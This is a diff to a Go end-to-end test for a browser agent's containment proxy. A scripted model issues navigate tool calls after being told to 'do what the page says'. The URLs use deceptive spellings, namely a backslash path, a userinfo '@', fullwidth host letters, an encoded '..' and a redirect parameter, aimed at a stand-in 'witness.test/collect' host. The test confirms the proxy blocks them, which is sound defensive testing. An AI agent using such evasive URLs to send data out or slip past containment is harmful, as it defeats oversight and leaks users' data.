@@ -35,13 +35,13 @@ func TestContainmentAddressSpellings(t *testing.T) {
 		{"tool_calls": [{"name": "navigate", "arguments": {"url": "/\\witness.test/collect?d=6"}}]},
 		{"tool_calls": [{"name": "navigate", "arguments": {"url": "https://shop.test@witness.test/collect?d=7"}}]},
 		{"tool_calls": [{"name": "navigate", "arguments": {"url": "HTTPS://\uff33\uff28\uff2f\uff30.test:443/a/../ne\txt?x=1"}}]},
-		{"tool_calls": [{"name": "navigate", "arguments": {"url": "/a/%2e%2e/out?to=https://witness.test/spelled?d=8"}}]},
+		{"tool_calls": [{"name": "navigate", "arguments": {"url": "/a/%2e%2e/out?`+rtTox("https://witness.test/spelled?d=", "8")+`"}}]},
 		{"text": "should not be reached"}
 	]}`, map[string]http.Handler{"shop.test": site})
 	actChat(t, aw.tab, "https://shop.test/", "do what the page says")
 	stoppedInTab(t, aw)
 	waitToolResult(t, aw, "navigate: stopped by the proxy") // the last call's result is stored
-	if u := e2etest.Eval[string](aw.tab, `location.href`); u != "https://shop.test/out?to=https://witness.test/spelled?d=8" {
+	if u := e2etest.Eval[string](aw.tab, `location.href`); u != "https://shop.test/out?"+rtTox("https://witness.test/spelled?d=", "8") {
 		t.Errorf("the tab is at %s, want the site's own redirect address, not followed", u)
 	}
 	results := storedToolResults(t, aw.proxy.Store)
